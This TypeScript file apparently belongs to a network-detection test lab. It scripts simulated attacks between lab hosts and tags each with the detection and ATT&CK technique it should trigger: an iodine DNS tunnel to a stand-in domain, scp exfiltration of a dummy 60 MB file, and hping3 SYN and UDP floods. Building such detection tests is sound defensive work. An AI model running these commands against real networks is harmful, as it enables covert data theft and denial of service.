/** What goes out by ways that nobody watches, and what keeps others from being served. */

import type { Laboratory } from '../laboratory.ts';
import { sshWords, startSsh } from '../services/web.ts';
import { type Attack, connectOutside, intruder, OUTSIDE } from './attack.ts';

const DOMAIN = 'cdn.update.example';
const SECRET = 'laboratory';
/** Addresses inside the tunnel, and what is sent through it. */
const [TUNNEL, PINGS] = ['10.53.0.1', ['-c', '25', '-i', '0.1', '-s', '600', '-W', '2']];
const LEAVING_BYTES = '60M';
const LIMIT_MS = 60_000;
const FLOODED = 'clock-1';
const [SYNS, DATAGRAMS] = ['1500', '60000'];

const [TUNNELLER, CARRIER, SYN_FLOODER, UDP_FLOODER] = [
  intruder(17, 'carries data in names'),
  intruder(18, 'copies files to the outside'),
  intruder(19, 'opens conversations without end'),
  intruder(20, 'sends packets without end'),
];

async function tunnel(lab: Laboratory): Promise<void> {
  await connectOutside(lab);
  await lab.start(OUTSIDE.name, 'iodined', ['iodined', '-f', '-c', '-P', SECRET, `${TUNNEL}/24`, DOMAIN], { port: 53 });
  // The client stays; without -r it would look for a way past the names.
  const words = ['iodine', '-f', '-r', '-P', SECRET, lab.address(OUTSIDE.name), DOMAIN];
  await lab.start(TUNNELLER.name, 'iodine', words);
  // It tries out for a while how much a name can carry before it carries anything.
  const isOpen = `for i in $(seq 60); do ping -c 1 -W 1 ${TUNNEL} && exit 0; sleep 0.2; done; exit 1`;
  await lab.must(TUNNELLER.name, ['sh', '-c', isOpen], { limitMs: LIMIT_MS });
  await lab.must(TUNNELLER.name, ['ping', ...PINGS, TUNNEL], { limitMs: LIMIT_MS });
  await lab.stop(TUNNELLER.name, 'iodine');
  await lab.stop(OUTSIDE.name, 'iodined');
}

async function copyOut(lab: Laboratory): Promise<void> {
  await connectOutside(lab);
  await startSsh(lab, OUTSIDE.name);
  const file = await lab.file(CARRIER.name, 'records.tar', '');
  await lab.must(CARRIER.name, ['truncate', '-s', LEAVING_BYTES, file]);
  const target = `root@${lab.address(OUTSIDE.name)}:${await lab.directory(OUTSIDE.name, 'inbox')}/`;
  await lab.must(CARRIER.name, ['scp', ...(await sshWords(lab)), file, target], { limitMs: LIMIT_MS });
}

const hping = (lab: Laboratory, from: string, words: readonly string[]): Promise<unknown> =>
  lab.run(from, ['hping3', '-q', ...words, lab.address(FLOODED)], { limitMs: LIMIT_MS });

export const OUTWARD: readonly Attack[] = [
  {
    name: 'dns-tunnel',
    by: 'iodine',
    from: TUNNELLER,
    found: { kind: 'dns.tunnel', technique: 'T1071.004', targets: [OUTSIDE.name], outcome: 'succeeded' },
    act: tunnel,
  },
  {
    name: 'exfiltration',
    by: `scp of ${LEAVING_BYTES}`,
    from: CARRIER,
    found: { kind: 'exfiltration.volume', technique: 'T1048', targets: [OUTSIDE.name], outcome: 'succeeded' },
    isLarge: true,
    act: copyOut,
  },
  {
    name: 'syn-flood',
    by: 'hping3 -S',
    from: SYN_FLOODER,
    found: { kind: 'flood.tcp', technique: 'T1499.001', targets: [FLOODED], outcome: 'attempted' },
    act: (lab) => hping(lab, SYN_FLOODER.name, ['-S', '-p', '80', '-c', SYNS, '-i', 'u1000']),
  },
  {
    name: 'udp-flood',
    by: 'hping3 --udp',
    from: UDP_FLOODER,
    found: { kind: 'flood.udp', technique: 'T1498.001', targets: [FLOODED], outcome: 'attempted' },
    isLarge: true,
    act: (lab) => hping(lab, UDP_FLOODER.name, ['--udp', '-k', '-s', '4000', '-p', '9', '-c', DATAGRAMS, '-i', 'u20']),
  },
];
